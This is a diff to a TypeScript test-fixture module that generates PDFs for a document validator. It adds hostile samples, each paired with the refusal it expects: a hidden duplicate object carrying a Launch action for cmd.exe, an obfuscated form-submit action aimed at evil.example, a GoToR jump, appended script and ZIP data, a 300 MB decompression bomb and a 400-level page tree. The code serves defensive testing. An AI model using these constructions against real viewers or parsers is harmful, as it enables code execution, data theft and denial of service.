@@ -1,6 +1,7 @@
 /** Files of people and of attackers, generated for each run. */
 import { buffer } from 'node:stream/consumers';
-import { PDFDict, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
+import { deflateSync } from 'node:zlib';
+import { PDFDict, PDFDocument, PDFName, PDFRawStream, PDFString } from '@cantoo/pdf-lib';
 import PdfWriter from 'pdfkit';
 import sharp from 'sharp';
 
@@ -149,3 +150,87 @@ const heicBase64 =
   'AAAAcADwECAA0AAAByAAAAEgEDAAEAAAABAAAAGgEFAAEAAABiAAAAGwEFAAEAAABqAAAAKAEDAAEAAAACAAAAEwIDAAEAAAABAAAAaYcEAAEA' +
   'AACAAAAAAAAAADhjAADoAwAAOGMAAOgDAABTZWNyZXRDYW1lcmEAAAYAAJAHAAQAAAAwMjEwAZEHAAQAAAABAgMAAKAHAAQAAAAwMTAwAaADAA' +
   'EAAAD//wAAAqAEAAEAAACgAAAAA6AEAAEAAABkAAAAAAAAAA==';
+
+/** A PDF whose object 4 is defined twice: viewers read the copy that the cross-reference table names. */
+async function twicePdf(hidden: string, isHiddenFirst: boolean): Promise<Buffer> {
+  const text = (await pdf(1)).toString('latin1');
+  const at = text.indexOf('4 0 obj');
+  const copy = `4 0 obj\n${hidden}\nendobj\n`;
+  const end = text.indexOf('endobj', at) + 'endobj\n'.length;
+  const place = isHiddenFirst ? at : end;
+  return Buffer.from(text.slice(0, place) + copy + text.slice(place), 'latin1');
+}
+
+/** A content stream that expands to this many bytes. */
+async function bombPdf(bytes: number): Promise<Buffer> {
+  const document = await PDFDocument.load(await pdf(1), { updateMetadata: false });
+  const { context } = document;
+  const stream = PDFRawStream.of(context.obj({ Filter: 'FlateDecode' }), deflateSync(Buffer.alloc(bytes, ' ')));
+  document.getPage(0).node.set(PDFName.of('Contents'), context.register(stream));
+  return Buffer.from(await document.save({ useObjectStreams: false }));
+}
+
+/** A page behind this many levels of the tree, written by hand. */
+async function deepPdf(levels: number): Promise<Buffer> {
+  const tree = Array.from({ length: levels }, (_, level) => `<< /Type /Pages /Count 1 /Kids [${level + 3} 0 R] >>`);
+  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', ...tree, '<< /Type /Page /MediaBox [0 0 9 9] >>'];
+  let text = '%PDF-1.4\n';
+  const places = objects.map((object, index) => {
+    const place = text.length;
+    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
+    return `${String(place).padStart(10, '0')} 00000 n \n`;
+  });
+  const size = objects.length + 1;
+  const table = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`;
+  return Buffer.from(
+    `${text}${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
+    'latin1',
+  );
+}
+
+/** PDFs that one program reads differently from another, or that grow, each with its refusal. */
+export const deceivingPdfs: Readonly<Record<string, readonly [make: () => Promise<Buffer>, key: string]>> = {
+  'a launch in the copy of an object that only viewers read': [
+    () => twicePdf('<< /S /Launch /F (cmd.exe) >>', true),
+    'document.pdfActive',
+  ],
+  'a form that is sent, in the second copy': [
+    () => twicePdf('<< /S /Submit#46orm /F (http://evil.example) >>', false),
+    'document.pdfActive',
+  ],
+  'two copies of one object': [() => twicePdf('<< /Type /Font >>', true), 'document.pdfAmbiguous'],
+  'a jump into another file': [
+    () => changedPdf((document) => document.catalog.set(PDFName.of('OpenAction'), action(document, 'GoToR'))),
+    'document.pdfActive',
+  ],
+  'a web page behind its end': [
+    async () => Buffer.concat([await pdf(1), Buffer.from('<script>alert(1)</script>')]),
+    'document.pdfTrailing',
+  ],
+  'a ZIP behind its end': [
+    async () => Buffer.concat([await pdf(1), Buffer.from('PK\u0003\u0004')]),
+    'document.pdfTrailing',
+  ],
+  'content that expands to 300 MB': [() => bombPdf(300 * 1024 * 1024), 'document.tooLarge'],
+  'pages behind four hundred levels': [() => deepPdf(400), 'document.damaged'],
+};
+
+/** PDFs of programs in use that a strict reading must not refuse. */
+export const unusualPdfs: Readonly<Record<string, () => Promise<Buffer>>> = {
+  'a change appended with a table of its own': async () => {
+    const text = (await pdf(1)).toString('latin1');
+    const start = Number(/startxref\n(\d+)/.exec(text)![1]);
+    const changed = `1 0 obj\n${/\b1 0 obj\n([\s\S]*?)\nendobj/.exec(text)?.[1] ?? '<< >>'}\nendobj\n`;
+    const at = text.length;
+    const table = `xref\n1 1\n${String(at).padStart(10, '0')} 00000 n \n`;
+    const root = /\/Root (\d+ 0 R)/.exec(text)![1];
+    const size = /\/Size (\d+)/.exec(text)![1];
+    return Buffer.from(
+      `${text}${changed}${table}trailer\n<< /Size ${size} /Root ${root} /Prev ${start} >>\nstartxref\n${at + changed.length}\n%%EOF\n`,
+      'latin1',
+    );
+  },
+  'zeros and line ends behind its end': async () => Buffer.concat([await pdf(1), Buffer.from('\r\n\0\0\0')]),
+  'object streams': () => changedPdf(() => {}, true),
+  'a tree of four levels': () => deepPdf(4),
+};
